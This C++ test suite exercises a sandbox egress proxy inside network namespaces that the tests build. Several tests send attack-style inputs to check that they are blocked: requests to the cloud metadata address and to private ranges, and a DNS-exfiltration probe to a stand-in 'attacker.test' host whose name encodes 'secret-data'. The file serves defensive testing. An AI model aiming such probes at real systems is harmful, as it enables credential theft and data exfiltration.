// The egress path end to end with real clients, inside network namespaces this test creates:
//   sandbox netns (loopback only) : curl / git / npm -> airlock-forwarder on 127.0.0.1:3128
//     -> unix socket -> EgressProxy (test process, "proxy side" netns)
//     -> veth -> public netns: HTTP servers on 192.0.2.10, 198.51.100.10, 203.0.113.10 and the
//        private 100.64.7.10.
// Nothing is sent to any address outside these namespaces. Needs root; skips otherwise.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <filesystem>
#include <fstream>

#include "common/files.h"
#include "common/ids.h"
#include "fmt/format.h"
#include "gtest/gtest.h"
#include "netproxy/egress_proxy.h"
#include "netproxy/testing/event_collector.h"
#include "netproxy/testing/test_net.h"
#include "netproxy/testing/test_servers.h"

namespace airlock::netproxy {
namespace {

using spec::NetworkProfile;
using testing::CommandOutput;
using testing::ConnectTcp;
using testing::EventCollector;
using testing::ForwarderProcess;
using testing::InNetns;
using testing::ReadUntil;
using testing::RunCommand;
using testing::SendAll;
using testing::TestNetwork;
using testing::TestServer;

constexpr uint16_t kForwarderPort = 3128;
const std::string kProxyUrl = fmt::format("http://127.0.0.1:{}", kForwarderPort);

Policy MakePolicy(NetworkProfile profile, std::vector<std::string> hosts,
                  const OperatorPolicy& op = {}) {
  spec::Network n;
  n.profile = profile;
  n.allow_hosts = std::move(hosts);
  absl::StatusOr<Policy> p = Policy::Compile(n, op);
  EXPECT_TRUE(p.ok()) << p.status();
  return *std::move(p);
}

class NetnsEgressTest : public ::testing::Test {
 protected:
  void SetUp() override {
    if (::geteuid() != 0) GTEST_SKIP() << "needs root for network namespaces";
    absl::StatusOr<std::unique_ptr<TestNetwork>> net = TestNetwork::Create();
    if (!net.ok()) GTEST_SKIP() << "cannot build the test network: " << net.status();
    net_ = *std::move(net);
    char tmpl[] = "/tmp/airlock-netns-XXXXXX";
    ASSERT_NE(::mkdtemp(tmpl), nullptr);
    dir_ = tmpl;
    std::filesystem::create_directories(dir_ + "/www");
    ::chmod(dir_.c_str(), 0755);
    socket_path_ = dir_ + "/egress.sock";
    for (auto [address, name] : {std::pair{TestNetwork::kHostA, "host-a"},
                                 {TestNetwork::kHostB, "host-b"},
                                 {TestNetwork::kHostC, "host-c"},
                                 {TestNetwork::kPrivateHost, "private"}}) {
      absl::StatusOr<std::unique_ptr<TestServer>> s = TestServer::Start(
          {TestServer::Kind::kHttp, address, 80, net_->public_ns(), name, dir_ + "/www"});
      ASSERT_TRUE(s.ok()) << s.status();
      servers_[name] = *std::move(s);
    }
    absl::StatusOr<std::unique_ptr<TestServer>> echo = TestServer::Start(
        {TestServer::Kind::kEcho, TestNetwork::kHostA, 7, net_->public_ns(), "echo", ""});
    ASSERT_TRUE(echo.ok()) << echo.status();
    echo_ = *std::move(echo);
  }

  void TearDown() override {
    forwarder_.reset();
    proxy_.reset();
    servers_.clear();
    echo_.reset();
    net_.reset();
    if (!dir_.empty()) std::filesystem::remove_all(dir_);
  }

  // Starts the proxy (in this thread's namespace, the proxy side) serving the sandbox on its
  // unix socket, and the forwarder inside the sandbox namespace.
  void Start(Policy policy, EgressProxy::Options options = {}) {
    options.hosts = {{"registry.test", {TestNetwork::kHostA}},
                     {"git.test", {TestNetwork::kHostB}},
                     {"other.test", {TestNetwork::kHostC}},
                     {"internal.test", {TestNetwork::kPrivateHost}},
                     {"meta.test", {"169.254.169.254"}},
                     {"private.test", {"10.0.0.5"}},
                     {"rebind.test", {"169.254.169.254", TestNetwork::kHostC}},
                     {"blackhole.test", {"192.0.2.99"}}};
    options.resolution = NameResolution::kHostsOnly;
    options.on_event = events_.Callback();
    absl::StatusOr<std::unique_ptr<EgressProxy>> proxy = EgressProxy::Start(std::move(options));
    ASSERT_TRUE(proxy.ok()) << proxy.status();
    proxy_ = *std::move(proxy);
    ASSERT_TRUE(proxy_->AddSandbox(id_, std::move(policy), socket_path_).ok());
    forwarder_ = std::make_unique<ForwarderProcess>(AIRLOCK_FORWARDER_PATH, net_->sandbox_ns(),
                                                    fmt::format("127.0.0.1:{}", kForwarderPort),
                                                    socket_path_);
    ASSERT_TRUE(forwarder_->ready());
  }

  // Runs a command inside the sandbox namespace with the proxy variables the engine sets.
  CommandOutput InSandbox(std::vector<std::string> argv, std::vector<std::string> env = {},
                          const std::string& netns = "") {
    std::vector<std::string> full = {"ip", "netns", "exec",
                                     netns.empty() ? net_->sandbox_ns() : netns};
    full.insert(full.end(), argv.begin(), argv.end());
    for (const char* var : {"HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"}) {
      env.push_back(fmt::format("{}={}", var, kProxyUrl));
    }
    env.push_back("NO_PROXY=localhost,127.0.0.1");
    env.push_back("no_proxy=localhost,127.0.0.1");
    env.push_back(fmt::format("HOME={}", dir_));
    absl::StatusOr<CommandOutput> out = RunCommand(full, env, std::chrono::seconds(120));
    EXPECT_TRUE(out.ok()) << out.status();
    return out.value_or(CommandOutput{});
  }

  CommandOutput Curl(const std::string& url, std::vector<std::string> extra = {}) {
    std::vector<std::string> argv = {"curl", "-sS", "--max-time", "20",
                                     "-o",   "-",   "-w",         "\n%{http_code}"};
    argv.insert(argv.end(), extra.begin(), extra.end());
    argv.push_back(url);
    return InSandbox(argv);
  }

  SandboxId id_ = SandboxId("sb-netns");
  std::unique_ptr<TestNetwork> net_;
  std::string dir_;
  std::string socket_path_;
  std::map<std::string, std::unique_ptr<TestServer>> servers_;
  std::unique_ptr<TestServer> echo_;
  EventCollector events_;
  std::unique_ptr<EgressProxy> proxy_;
  std::unique_ptr<ForwarderProcess> forwarder_;
};

TEST_F(NetnsEgressTest, CurlReachesAnAllowedHostOverHttpAndConnect) {
  // The test hosts serve on port 80: a CONNECT there needs the port named (a portless pattern
  // allows tunnels to 443 only).
  Start(MakePolicy(NetworkProfile::kDependencyEgress, {"registry.test", "registry.test:80"}));
  CommandOutput plain = Curl("http://registry.test/hello");
  EXPECT_EQ(plain.output, "hello from host-a\n\n200") << plain.output;
  CommandOutput tunnel = Curl("http://registry.test/hello", {"--proxytunnel"});
  EXPECT_EQ(tunnel.output, "hello from host-a\n\n200") << tunnel.output;
  EXPECT_EQ(servers_["host-a"]->requests().size(), 2u);
  EXPECT_TRUE(events_.Blocked().empty());
}

TEST_F(NetnsEgressTest, HostNotOnTheListIsRefusedWithAnEvent) {
  Start(MakePolicy(NetworkProfile::kDependencyEgress, {"registry.test"}));
  CommandOutput out = Curl("http://other.test/hello");
  EXPECT_TRUE(out.output.ends_with("\n403")) << out.output;
  EXPECT_NE(out.output.find("blocked by not-allowlisted"), std::string::npos) << out.output;
  out = Curl("http://other.test/hello", {"--proxytunnel"});
  EXPECT_NE(out.exit_code, 0);
  std::vector<BlockedNetworkEgress> blocked = events_.Blocked();
  ASSERT_EQ(blocked.size(), 2u);
  for (const BlockedNetworkEgress& b : blocked) {
    EXPECT_EQ(b.sandbox, id_);
    EXPECT_EQ(b.host, "other.test");
    EXPECT_EQ(b.port, 80);
    EXPECT_EQ(b.rule, "not-allowlisted");
    EXPECT_EQ(b.resolved_address, "");
  }
  EXPECT_EQ(blocked[0].method, "GET");
  EXPECT_EQ(blocked[1].method, "CONNECT");
  EXPECT_TRUE(servers_["host-c"]->requests().empty());
}

TEST_F(NetnsEgressTest, MetadataAndPrivateDestinationsAreRefusedInEveryProfile) {
  bool started = false;
  for (NetworkProfile profile : {NetworkProfile::kDependencyEgress, NetworkProfile::kRepoEgress,
                                 NetworkProfile::kRestrictedHttp, NetworkProfile::kOpen}) {
    SCOPED_TRACE(std::string(ProfileName(profile)));
    Policy policy = MakePolicy(
        profile, {"meta.test", "private.test", "rebind.test", "169.254.169.254", "10.0.0.5"});
    if (!started) {
      Start(std::move(policy));
      started = true;
    } else {
      ASSERT_TRUE(proxy_->UpdatePolicy(id_, std::move(policy), PolicyAuthority::kMayLoosen).ok());
    }
    events_.Clear();
    for (const char* url : {"http://meta.test/latest/meta-data/", "http://169.254.169.254/",
                            "http://private.test/", "http://10.0.0.5/"}) {
      CommandOutput out = Curl(url);
      EXPECT_TRUE(out.output.ends_with("\n403")) << url << ": " << out.output;
      out = Curl(url, {"--proxytunnel"});
      EXPECT_NE(out.exit_code, 0) << url;
    }
    std::vector<BlockedNetworkEgress> blocked = events_.Blocked();
    ASSERT_EQ(blocked.size(), 8u);
    EXPECT_EQ(blocked[0].host, "meta.test");
    EXPECT_EQ(blocked[0].resolved_address, "169.254.169.254");
    EXPECT_EQ(blocked[0].rule, "always-denied:169.254.0.0/16 (metadata)");
    EXPECT_EQ(blocked[4].resolved_address, "10.0.0.5");
    EXPECT_EQ(blocked[4].rule, "always-denied:10.0.0.0/8 (private)");
    // A name resolving to both a public and the metadata address reaches only the public one.
    CommandOutput rebind = Curl("http://rebind.test/hello");
    EXPECT_EQ(rebind.output, "hello from host-c\n\n200") << rebind.output;
    EXPECT_EQ(events_.Blocked().back().resolved_address, "169.254.169.254");
  }
}

// Attack: in the open profile, reach a service of the node itself through one of the node's own
// public addresses (here 192.0.2.1 on the proxy side, where a server listens). Expected: 403
// always-denied:node-local, until the operator opens that address.
TEST_F(NetnsEgressTest, TheNodesOwnAddressesAreRefusedUnlessTheOperatorOpensThem) {
  absl::StatusOr<std::unique_ptr<TestServer>> node_service =
      TestServer::Start({TestServer::Kind::kHttp, "192.0.2.1", 8080, "", "node", dir_ + "/www"});
  ASSERT_TRUE(node_service.ok()) << node_service.status();
  Start(MakePolicy(NetworkProfile::kOpen, {}));
  CommandOutput out = Curl("http://192.0.2.1:8080/hello");
  EXPECT_TRUE(out.output.ends_with("\n403")) << out.output;
  EXPECT_EQ(events_.Blocked().back().rule, "always-denied:node-local");
  EXPECT_NE(Curl("http://192.0.2.1:8080/hello", {"--proxytunnel"}).exit_code, 0);
  EXPECT_EQ((*node_service)->connections(), 0u);
  // The public host beside it stays reachable.
  EXPECT_EQ(Curl("http://192.0.2.10/hello").output, "hello from host-a\n\n200");

  OperatorPolicy op;
  op.open_private_cidrs = {"192.0.2.1/32"};
  ASSERT_TRUE(proxy_
                  ->UpdatePolicy(id_, MakePolicy(NetworkProfile::kOpen, {}, op),
                                 PolicyAuthority::kMayLoosen)
                  .ok());
  EXPECT_EQ(Curl("http://192.0.2.1:8080/hello").output, "hello from node\n\n200");
}

TEST_F(NetnsEgressTest, OnlyTheOperatorPolicyOpensAPrivateRegistry) {
  Start(MakePolicy(NetworkProfile::kDependencyEgress, {"internal.test"}));
  CommandOutput out = Curl("http://internal.test/hello");
  EXPECT_TRUE(out.output.ends_with("\n403")) << out.output;
  EXPECT_EQ(events_.Blocked().back().rule, "always-denied:100.64.0.0/10 (shared-address-space)");
  OperatorPolicy op;
  op.open_private_cidrs = {"100.64.7.0/24"};
  ASSERT_TRUE(
      proxy_
          ->UpdatePolicy(id_, MakePolicy(NetworkProfile::kDependencyEgress, {"internal.test"}, op),
                         PolicyAuthority::kMayLoosen)
          .ok());
  out = Curl("http://internal.test/hello");
  EXPECT_EQ(out.output, "hello from private\n\n200") << out.output;
  // Opening a range never adds hosts: another name on it stays refused.
  out = Curl("http://100.64.7.10/hello");
  EXPECT_TRUE(out.output.ends_with("\n403")) << out.output;
}

TEST_F(NetnsEgressTest, GitClonesOverHttpThroughTheProxy) {
  std::string src = dir_ + "/src";
  std::string bare = dir_ + "/www/repo.git";
  auto git = [&](std::vector<std::string> args) {
    args.insert(args.begin(), "git");
    absl::StatusOr<CommandOutput> out =
        RunCommand(args, {fmt::format("HOME={}", dir_), "GIT_AUTHOR_NAME=t", "GIT_COMMITTER_NAME=t",
                          "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_EMAIL=t@t"});
    ASSERT_TRUE(out.ok() && out->exit_code == 0)
        << fmt::format("{}", fmt::join(args, " ")) << ": " << out->output;
  };
  git({"init", "-q", "-b", "main", src});
  ASSERT_TRUE(WriteFileAtomic(src + "/README", "egress works\n").ok());
  git({"-C", src, "add", "README"});
  git({"-C", src, "commit", "-q", "-m", "first"});
  git({"clone", "-q", "--bare", src, bare});
  git({"-C", bare, "update-server-info"});

  Start(MakePolicy(NetworkProfile::kRepoEgress, {"git.test"}));
  CommandOutput out =
      InSandbox({"git", "clone", "-q", "http://git.test/repo.git", dir_ + "/clone"});
  ASSERT_EQ(out.exit_code, 0) << out.output;
  absl::StatusOr<std::string> readme = ReadFile(dir_ + "/clone/README");
  ASSERT_TRUE(readme.ok()) << readme.status();
  EXPECT_EQ(*readme, "egress works\n");
  EXPECT_FALSE(servers_["host-b"]->requests().empty());
  EXPECT_TRUE(events_.Blocked().empty());
  // The same clone from a host the profile does not name is refused.
  out = InSandbox({"git", "clone", "-q", "http://registry.test/repo.git", dir_ + "/clone2"});
  EXPECT_NE(out.exit_code, 0);
  EXPECT_EQ(events_.Blocked().at(0).host, "registry.test");
}

TEST_F(NetnsEgressTest, NpmCiInstallsFromARegistryStubWithALockfile) {
  std::string pkg = dir_ + "/pkgsrc/package";
  std::filesystem::create_directories(pkg);
  ASSERT_TRUE(WriteFileAtomic(pkg + "/package.json",
                              R"({"name":"airlock-stub-pkg","version":"1.0.0","main":"index.js"})")
                  .ok());
  ASSERT_TRUE(WriteFileAtomic(pkg + "/index.js", "module.exports = 'stub';\n").ok());
  std::string tgz_dir = dir_ + "/www/airlock-stub-pkg/-";
  std::filesystem::create_directories(tgz_dir);
  std::string tgz = tgz_dir + "/airlock-stub-pkg-1.0.0.tgz";
  absl::StatusOr<CommandOutput> tar =
      RunCommand({"tar", "czf", tgz, "-C", dir_ + "/pkgsrc", "package"});
  ASSERT_TRUE(tar.ok() && tar->exit_code == 0);
  absl::StatusOr<CommandOutput> sri =
      RunCommand({"sh", "-c", fmt::format("openssl dgst -sha512 -binary '{}' | base64 -w0", tgz)});
  ASSERT_TRUE(sri.ok() && sri->exit_code == 0);
  std::string integrity = "sha512-" + sri->output;
  std::string tarball_url = "http://registry.test/airlock-stub-pkg/-/airlock-stub-pkg-1.0.0.tgz";
  ASSERT_TRUE(
      WriteFileAtomic(dir_ + "/www/airlock-stub-pkg/index",
                      fmt::format(R"({{"name":"airlock-stub-pkg","dist-tags":{{"latest":"1.0.0"}},
"versions":{{"1.0.0":{{"name":"airlock-stub-pkg","version":"1.0.0",
"dist":{{"tarball":"{}","integrity":"{}"}}}}}}}})",
                                  tarball_url, integrity))
          .ok());
  std::string project = dir_ + "/project";
  std::filesystem::create_directories(project);
  ASSERT_TRUE(WriteFileAtomic(project + "/package.json",
                              R"({"name":"project","version":"1.0.0",
"dependencies":{"airlock-stub-pkg":"1.0.0"}})")
                  .ok());
  ASSERT_TRUE(
      WriteFileAtomic(project + "/package-lock.json",
                      fmt::format(R"({{"name":"project","version":"1.0.0","lockfileVersion":3,
"requires":true,"packages":{{"":{{"name":"project","version":"1.0.0",
"dependencies":{{"airlock-stub-pkg":"1.0.0"}}}},
"node_modules/airlock-stub-pkg":{{"version":"1.0.0","resolved":"{}","integrity":"{}"}}}}}})",
                                  tarball_url, integrity))
          .ok());

  Start(MakePolicy(NetworkProfile::kDependencyEgress, {"registry.test"}));
  CommandOutput out =
      InSandbox({"npm", "ci", "--prefix", project, "--registry", "http://registry.test/",
                 "--no-audit", "--no-fund", "--no-update-notifier", "--cache", dir_ + "/npm-cache"},
                {fmt::format("npm_config_proxy={}", kProxyUrl), "npm_config_userconfig=/dev/null"});
  ASSERT_EQ(out.exit_code, 0) << out.output;
  absl::StatusOr<std::string> installed =
      ReadFile(project + "/node_modules/airlock-stub-pkg/index.js");
  ASSERT_TRUE(installed.ok()) << installed.status();
  EXPECT_EQ(*installed, "module.exports = 'stub';\n");
  std::vector<std::string> requests = servers_["host-a"]->requests();
  EXPECT_NE(std::find(requests.begin(), requests.end(),
                      "GET /airlock-stub-pkg/-/airlock-stub-pkg-1.0.0.tgz"),
            requests.end());
}

TEST_F(NetnsEgressTest, ConnectTimeoutAnswers504) {
  EgressProxy::Options options;
  options.connect_timeout = std::chrono::milliseconds(300);
  Start(MakePolicy(NetworkProfile::kDependencyEgress, {"blackhole.test"}), options);
  CommandOutput out = Curl("http://blackhole.test/");
  EXPECT_TRUE(out.output.ends_with("\n504")) << out.output;
  std::vector<ConnectionClosed> closed = events_.WaitFor<ConnectionClosed>(1);
  ASSERT_FALSE(closed.empty());
  EXPECT_EQ(closed[0].end, "connect-timeout");
}

TEST_F(NetnsEgressTest, HoldsAThousandConnectionsThroughTheForwarder) {
  Start(MakePolicy(NetworkProfile::kDependencyEgress, {"registry.test:7"}));
  constexpr int kConnections = 1000;
  std::vector<UniqueFd> fds(kConnections);
  // Client sockets are made inside the sandbox namespace, where only the forwarder listens.
  absl::Status in_ns = InNetns(net_->sandbox_ns(), [&] {
    for (int i = 0; i < kConnections; ++i) {
      absl::StatusOr<UniqueFd> fd = ConnectTcp("127.0.0.1", kForwarderPort);
      if (!fd.ok()) return;
      fds[i] = *std::move(fd);
    }
  });
  ASSERT_TRUE(in_ns.ok()) << in_ns;
  for (int i = 0; i < kConnections; ++i) {
    ASSERT_TRUE(fds[i].valid()) << i;
    ASSERT_TRUE(SendAll(fds[i].get(), "CONNECT registry.test:7 HTTP/1.1\r\n\r\n").ok());
  }
  for (int i = 0; i < kConnections; ++i) {
    ASSERT_TRUE(ReadUntil(fds[i].get(), "\r\n\r\n").starts_with("HTTP/1.1 200")) << i;
    ASSERT_TRUE(SendAll(fds[i].get(), fmt::format("{}|", i)).ok());
  }
  for (int i = 0; i < kConnections; ++i) {
    ASSERT_EQ(ReadUntil(fds[i].get(), "|"), fmt::format("{}|", i));
  }
  EXPECT_EQ(proxy_->Stats(id_)->active_connections, static_cast<uint64_t>(kConnections));
}

// The namespace-level half of the sandbox escape tests: a loopback-only namespace gives a tool
// that ignores the proxy settings no way out. The engine adds the same assertions inside a real
// sandbox (seccomp, mounts, user namespace on top).
TEST_F(NetnsEgressTest, DirectTrafficFromTheSandboxNamespaceFails) {
  Start(MakePolicy(NetworkProfile::kOpen, {}));
  // curl told to ignore the proxy.
  CommandOutput out = Curl("http://192.0.2.10/hello", {"--noproxy", "*"});
  EXPECT_NE(out.exit_code, 0) << out.output;
  EXPECT_TRUE(servers_["host-a"]->requests().empty());

  absl::Status in_ns = InNetns(net_->sandbox_ns(), [&] {
    sockaddr_in dst{};
    dst.sin_family = AF_INET;
    dst.sin_port = htons(80);
    inet_pton(AF_INET, TestNetwork::kHostA, &dst.sin_addr);
    auto* sa = reinterpret_cast<sockaddr*>(&dst);
    // Direct TCP connect.
    UniqueFd tcp(::socket(AF_INET, SOCK_STREAM, 0));
    EXPECT_EQ(::connect(tcp.get(), sa, sizeof(dst)), -1);
    EXPECT_EQ(errno, ENETUNREACH);
    // A UDP datagram (a DNS query to the host's resolver would take this path).
    UniqueFd udp(::socket(AF_INET, SOCK_DGRAM, 0));
    EXPECT_EQ(::sendto(udp.get(), "x", 1, 0, sa, sizeof(dst)), -1);
    EXPECT_EQ(errno, ENETUNREACH);
    // An ICMP echo request (ping socket) and a raw IP socket.
    icmphdr echo{};
    echo.type = ICMP_ECHO;
    UniqueFd ping(::socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP));
    if (ping.valid()) {
      EXPECT_EQ(::sendto(ping.get(), &echo, sizeof(echo), 0, sa, sizeof(dst)), -1);
      EXPECT_EQ(errno, ENETUNREACH);
    }
    UniqueFd raw(::socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
    ASSERT_TRUE(raw.valid());  // root here; a real sandbox has no CAP_NET_RAW at all
    EXPECT_EQ(::sendto(raw.get(), &echo, sizeof(echo), 0, sa, sizeof(dst)), -1);
    EXPECT_EQ(errno, ENETUNREACH);
  });
  ASSERT_TRUE(in_ns.ok()) << in_ns;
  EXPECT_TRUE(servers_["host-a"]->requests().empty());
}

TEST_F(NetnsEgressTest, DnsExfiltrationGetsNoAnswer) {
  Start(MakePolicy(NetworkProfile::kDependencyEgress, {"registry.test"}));
  // Through the proxy: a name off the list is refused before any lookup.
  CommandOutput out = Curl("http://c2VjcmV0LWRhdGE.attacker.test/");
  EXPECT_TRUE(out.output.ends_with("\n403")) << out.output;
  EXPECT_EQ(events_.Blocked().back().resolved_address, "");
  // Directly: a DNS query to any resolver has no route out of the namespace.
  absl::Status in_ns = InNetns(net_->sandbox_ns(), [&] {
    for (const char* resolver : {"192.0.2.10", "10.255.255.53", "8.8.8.8"}) {
      sockaddr_in dst{};
      dst.sin_family = AF_INET;
      dst.sin_port = htons(53);
      inet_pton(AF_INET, resolver, &dst.sin_addr);
      UniqueFd udp(::socket(AF_INET, SOCK_DGRAM, 0));
      static constexpr char kQuery[] = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00";
      EXPECT_EQ(::sendto(udp.get(), kQuery, sizeof(kQuery) - 1, 0,
                         reinterpret_cast<sockaddr*>(&dst), sizeof(dst)),
                -1)
          << resolver;
      EXPECT_EQ(errno, ENETUNREACH) << resolver;
    }
  });
  ASSERT_TRUE(in_ns.ok()) << in_ns;
}

TEST_F(NetnsEgressTest, AbstractUnixSocketsOfTheHostAreUnreachable) {
  Start(MakePolicy(NetworkProfile::kOpen, {}));
  std::string name = fmt::format("airlock-test-{}", RandomHex(4));
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  std::memcpy(addr.sun_path + 1, name.data(), name.size());
  socklen_t len = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size());
  UniqueFd listener(::socket(AF_UNIX, SOCK_STREAM, 0));
  ASSERT_EQ(::bind(listener.get(), reinterpret_cast<sockaddr*>(&addr), len), 0);
  ASSERT_EQ(::listen(listener.get(), 4), 0);
  UniqueFd same_ns(::socket(AF_UNIX, SOCK_STREAM, 0));
  EXPECT_EQ(::connect(same_ns.get(), reinterpret_cast<sockaddr*>(&addr), len), 0);
  absl::Status in_ns = InNetns(net_->sandbox_ns(), [&] {
    UniqueFd fd(::socket(AF_UNIX, SOCK_STREAM, 0));
    EXPECT_EQ(::connect(fd.get(), reinterpret_cast<sockaddr*>(&addr), len), -1);
    EXPECT_EQ(errno, ECONNREFUSED);
  });
  ASSERT_TRUE(in_ns.ok()) << in_ns;
}

TEST_F(NetnsEgressTest, ASandboxCannotReachAnotherSandboxsForwarder) {
  Start(MakePolicy(NetworkProfile::kOpen, {}));
  ASSERT_EQ(Curl("http://registry.test/hello").output, "hello from host-a\n\n200");
  CommandOutput out = InSandbox({"curl", "-sS", "--max-time", "5", "http://registry.test/hello"},
                                {}, net_->sandbox2_ns());
  EXPECT_EQ(out.exit_code, 7) << out.output;  // couldn't connect to the (absent) proxy
  absl::Status in_ns = InNetns(net_->sandbox2_ns(),
                               [&] { EXPECT_FALSE(ConnectTcp("127.0.0.1", kForwarderPort).ok()); });
  ASSERT_TRUE(in_ns.ok()) << in_ns;
}

}  // namespace
}  // namespace airlock::netproxy
